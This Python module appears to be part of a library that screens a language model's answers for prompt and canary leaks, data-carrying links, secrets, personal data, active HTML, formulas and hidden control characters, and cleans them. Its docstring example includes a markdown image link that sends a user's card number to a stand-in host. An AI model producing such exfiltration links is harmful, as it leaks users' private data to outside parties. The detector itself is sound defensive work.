"""Checks what a model puts out, before it is shown, stored or passed on.

Unlike a check of what goes in, it can be sure of some things: that the canary is in the answer,
that an address carries the user's words away, that a key is in it. It does not find what was
translated, described in other words, or spread over many answers.
"""

from __future__ import annotations

import dataclasses
import re
from collections.abc import Iterable, Iterator

from pex.guard import output_invisible as unseen
from pex.guard import output_links, output_markup, output_private, output_prompt
from pex.guard.findings import Checked, Finding
from pex.guard.output_context import OutputContext, OutputPolicy
from pex.guard.output_stage import OutputRule, Stage

_HALF = re.compile("[\ud800-\udfff]")
_DISCLOSURE, _HIDDEN, _OUTPUT = "LLM02:2026", "LLM08:2026", "LLM10:2026"

CHARACTERS = (
    OutputRule("invisible-text", unseen.find_invisible_text, unseen.hold_invisible_text, _OUTPUT),
    OutputRule("bidi-controls", unseen.find_bidi_controls, unseen.hold_bidi_controls, _OUTPUT),
    OutputRule(
        "terminal-controls", unseen.find_terminal_controls, unseen.hold_terminal_controls, _OUTPUT
    ),
)
"""Applied first: what they take out could be in the middle of a tag, an address or a key."""
WORDS = (
    OutputRule("canary", output_prompt.find_canary_leak, output_prompt.hold_canary, _HIDDEN),
    OutputRule(
        "prompt-leak", output_prompt.find_prompt_leak, output_prompt.hold_prompt_leak, _HIDDEN
    ),
    OutputRule(
        "data-links", output_links.find_data_links, output_links.hold_data_links, _DISCLOSURE,
        output_links.whole_addresses,
    ),
    OutputRule(
        "script-links", output_markup.find_script_links, output_markup.hold_script_links, _OUTPUT
    ),
    OutputRule(
        "leaked-secrets", output_private.find_leaked_secrets, output_private.hold_leaked_secrets,
        _DISCLOSURE,
    ),
    OutputRule(
        "leaked-personal-data", output_private.find_leaked_personal_data,
        output_private.hold_leaked_personal_data, _DISCLOSURE,
    ),
    OutputRule(
        "active-html", output_markup.find_active_html, output_markup.hold_active_html, _OUTPUT,
        output_markup.whole_tags,
    ),
    OutputRule("formulas", output_markup.find_formulas, output_markup.hold_nothing, _OUTPUT),
)  # fmt: skip
OUTPUT_RULES = (*WORDS, *CHARACTERS)
"""All rules, by what they are about."""


def check_output(
    text: str, context: OutputContext | None = None, policy: OutputPolicy | None = None
) -> Checked:
    """Check an answer of a model.

    It never raises because of what is in the text, and takes time proportional to its length.

    Args:
        text: the answer.
        context: what the model was given; without it, nothing is known of instructions and data.
        policy: which checks are made; default: all.

    Returns:
        The findings, whether one is more than a signal (`flagged`), and the answer `cleaned`:
        parts of the instructions, secrets and addresses with data are replaced, active HTML is
        shown as text, invisible characters are left out.

    Raises:
        TypeError: it is no string.

    Example:
        >>> context = OutputContext("You are Clara.", ["My card is 4711 0815 4711."])
        >>> found = check_output("![](https://new.example/p?c=4711+0815+4711) Hi", context)
        >>> found.flagged, found.cleaned
        (True, '![]([link removed]) Hi')
        >>> print(found.findings[0].message)
        an image or the like to new.example with 12 letters of what the model was given
        >>> check_output("See [the docs](https://docs.python.org/3/).", context).findings
        ()
    """
    if not isinstance(text, str):
        raise TypeError(f"check_output: expected a string, got {type(text).__name__}")
    reader = Reader(context or OutputContext(), policy or OutputPolicy())
    cleaned = reader.feed(text, final=True)
    return Checked(text, tuple(reader.findings()), cleaned)


class Reader:
    """Both stages of the checks, one behind the other, for a text in any number of pieces."""

    def __init__(self, context: OutputContext, policy: OutputPolicy) -> None:
        self._context, self._policy = context, policy
        self._characters = Stage(CHARACTERS, context, policy, words=False)
        self._words = Stage(WORDS, context, policy, words=True)
        self._half = ""  # the first half of a character that was cut in two

    @property
    def held(self) -> int:
        """Characters that are held back."""
        return len(self._half) + self._characters.held + self._words.held

    def feed(self, piece: str, final: bool = False) -> str:
        """Take a piece, and give on what is decided."""
        piece = self._half + piece
        self._half = ""
        if not piece.isascii():
            if not final and "\ud800" <= piece[-1] <= "\udbff":
                piece, self._half = piece[:-1], piece[-1]
            piece = whole_characters(piece)
        return self._words.feed(self._characters.feed(piece, final), final)

    def findings(self) -> list[Finding]:
        """What was found until now, in the order of the places in the text that came in."""
        first = self._characters
        later = [
            dataclasses.replace(
                one, start=first.original(one.start), end=first.original(one.end, end=True)
            )
            for one in (*self._words.findings, *self._in_pieces())
        ]
        return sorted((*first.findings, *later), key=lambda one: (one.start, one.end, one.rule))

    def _in_pieces(self) -> Iterable[Finding]:
        leaks = [one for one in self._words.findings if one.rule == "prompt-leak"]
        if not leaks or any(one.severity != "signal" for one in leaks):
            return
        letters = sum(int(one.message.partition(" ")[0].replace(",", "")) for one in leaks)
        found = output_prompt.pieces_finding(
            letters, leaks[0].start, leaks[-1].end, self._context, self._policy
        )
        if found is not None:
            yield found


def whole_characters(text: str) -> str:
    r"""The text with both halves of a character made one; a half alone stays.

    Example:
        >>> whole_characters("\ud83d\ude00")
        '😀'
    """
    if not _HALF.search(text):
        return text
    data = text.encode("utf-16-le", "surrogatepass")
    return data.decode("utf-16-le", "surrogatepass")


def output_rules(group: str) -> Iterator[OutputRule]:
    """The rules of a group; a scorer is one group.

    Args:
        group: one of `GROUPS`.

    Example:
        >>> [rule.name for rule in output_rules("links")]
        ['data-links']
    """
    return (rule for rule in OUTPUT_RULES if rule.name in GROUPS[group])


GROUPS: dict[str, tuple[str, ...]] = {
    "canary": ("canary",),
    "prompt_leak": ("prompt-leak",),
    "links": ("data-links",),
    "leaked_data": ("leaked-secrets", "leaked-personal-data"),
    "invisible": ("invisible-text", "bidi-controls", "terminal-controls"),
    "unsafe_markup": ("active-html", "script-links", "formulas"),
}
"""The rules by what they are about, as the scorers are called."""
